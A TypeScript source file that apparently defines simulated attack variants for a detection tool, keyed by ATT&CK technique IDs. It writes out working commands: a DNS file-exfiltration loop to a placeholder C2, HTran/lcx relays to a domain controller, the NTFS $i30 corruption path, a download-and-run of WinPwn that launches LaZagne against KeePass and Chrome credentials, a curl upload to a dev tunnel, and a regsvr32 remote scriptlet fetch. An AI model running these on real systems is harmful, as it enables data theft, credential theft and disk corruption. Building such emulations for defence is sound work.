import { v } from "../dsl";
import type { Variant } from "../types";

/** The root directory's $i30 index opened as a $bitmap stream: NTFS flags the volume corrupt (CVE-2021-28312). */
const I30_BITMAP = "C:\\:$i30:$bitmap";

/**
 * Extra variants (see ../extras.ts): a DNS-exfiltration loop, an HTran relay chain through two compromised
 * hosts, the NTFS $i30 bug as a no-privilege endpoint DoS, WinPwn's LaZagne module, and a scriptlet pulled
 * by regsvr32 through the Script Component COM server.
 */
export const extrasL: Readonly<Record<string, readonly Variant[]>> = {
  // Files listed, then each one hex-encoded into DNS labels under the attacker's zone and resolved one chunk
  // at a time (no HTTP egress needed, only the resolver); the list file doubles as the work queue.
  T1020: [
    v(
      "dns-label-exfil",
      [
        {
          ps: `Get-ChildItem {{home}}\\Documents -Recurse -Include *.docx,*.xlsx,*.pdf | Select-Object -ExpandProperty FullName | Out-File {{tmp}}\\{{rand}}.txt
foreach ($f in Get-Content {{tmp}}\\{{rand}}.txt) {
  $h = ([BitConverter]::ToString([IO.File]::ReadAllBytes($f)) -replace '-', '').ToLower()
  for ($i = 0; $i -lt $h.Length; $i += 60) {
    $c = $h.Substring($i, [Math]::Min(60, $h.Length - $i))
    try { [System.Net.Dns]::GetHostEntry("$c.$($i / 60).{{c2}}") | Out-Null } catch {}
    Start-Sleep -Milliseconds 200
  }
}`,
          files: ["{{tmp}}\\{{rand}}.txt"],
          reads: ["{{home}}\\Documents\\{{name}}.docx"],
          dns: [
            "504b0304140006000800000021{{rand2}}{{rand2}}{{rand2}}{{rand}}{{rand}}{{rand}}0.0.{{c2}}",
            "{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand}}aa.1.{{c2}}",
            "{{rand}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand}}0c.2.{{c2}}",
          ],
        },
      ],
      { shell: "ps" },
    ),
  ],
  // HTran / lcx relay chain (Chinese-nexus intrusions): the implant already on the server runs htran, which
  // forwards its port to the DC's RDP; lcx on the workstation connects out to the operator's relay and into
  // that hop, so the operator reaches the DC through two internal hosts.
  "T1090.003": [
    v(
      "htran-chain",
      [
        {
          cmd: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
          as: "implant",
          host: "@server",
          parent: "@services",
          user: "@system",
          keep: true,
        },
        {
          cmd: "C:\\ProgramData\\{{name}}\\htran.exe -tran 8443 {{dcip}} 3389",
          host: "@server",
          parent: "implant",
          net: [["@dc", 3389]],
          keep: true,
        },
        { cmd: "{{appdata}}\\{{name}}\\{{name}}.exe", as: "beacon", parent: "@explorer", keep: true },
        {
          cmd: "{{appdata}}\\{{name}}\\lcx.exe -slave {{c2ip}} 443 {{srvip}} 8443",
          parent: "beacon",
          net: [
            ["{{c2ip}}", 443],
            ["@server", 8443],
          ],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
  ],
  // The $i30 path as the icon of an internet shortcut dropped where the user browses: Explorer corrupts the
  // volume while drawing the folder (the delivery shown for CVE-2021-28312), no command line involved.
  T1499: [
    v(
      "ntfs-i30-shortcut-icon",
      [
        { by: "@explorer", files: ["{{downloads}}\\{{name}}.url"] },
        { by: "@explorer", delay: 1500, then: [{ id: "corrupt", kind: "ntfs.corruption" }] },
      ],
      { shell: "none" },
    ),
  ],
  // CVE-2021-28312: any user opening the path (no privileges needed) gets the volume marked dirty and a
  // chkdsk-on-reboot prompt; Ntfs logs 55 for the root directory's file record.
  "T1499.004": [
    v(
      "ntfs-i30-bitmap",
      [{ cmd: `cmd.exe /c cd ${I30_BITMAP}`, then: [{ id: "corrupt", kind: "ntfs.corruption" }] }],
      { shell: "none" },
    ),
  ],
  // Atomic T1555 #6: WinPwn's lazagnemodule drops LaZagne as WinCreds.exe in the working folder and runs
  // every module, KeePass (config and process memory) among them.
  "T1555.005": [
    v(
      "winpwn-lazagne",
      [
        {
          ps: "$S3cur3Th1sSh1t_repo='https://raw.githubusercontent.com/S3cur3Th1sSh1t'; iex(new-object net.webclient).downloadstring('https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1'); lazagnemodule -consoleoutput -noninteractive",
          net: [["raw.githubusercontent.com", 443]],
          files: ["{{home}}\\WinCreds.exe"],
        },
        {
          cmd: '"{{home}}\\WinCreds.exe" all',
          cwd: "{{home}}",
          reads: [
            "{{appdata}}\\KeePass\\KeePass.config.xml",
            "{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data",
          ],
        },
      ],
      { shell: "ps" },
    ),
  ],
  // The receiver sits behind the operator's Microsoft Dev Tunnel (GitHub-account login, a trusted Microsoft
  // domain past egress filters): the staged archive is POSTed to its public devtunnels.ms URL.
  "T1567.001": [
    v(
      "devtunnel-upload",
      [
        {
          cmd: 'curl.exe -s -X POST -F "file=@C:\\ProgramData\\{{rand}}.zip" https://{{$tunnel}}/upload',
          reads: ["C:\\ProgramData\\{{rand}}.zip"],
          net: [["{{$tunnel}}", 443]],
        },
      ],
      { vars: { tunnel: "{{rand2}}-8080.{{euw|usw2|use|asse}}.devtunnels.ms" } },
    ),
  ],
  // scrobj.dll is the Script Component runtime's COM server: regsvr32 hands it the URL and the scriptlet's
  // registration code runs inside regsvr32, which fetches it itself ("Squiblydoo"), here from a shortcut
  // the user opened (ISO/LNK delivery), so Explorer is the parent.
  "T1559.001": [
    v(
      "scrobj-remote-scriptlet",
      [
        {
          cmd: '"C:\\Windows\\System32\\regsvr32.exe" /s /n /u /i:https://{{c2}}/{{rand}}.sct scrobj.dll',
          parent: "@explorer",
          loads: ["C:\\Windows\\System32\\scrobj.dll"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ],
};
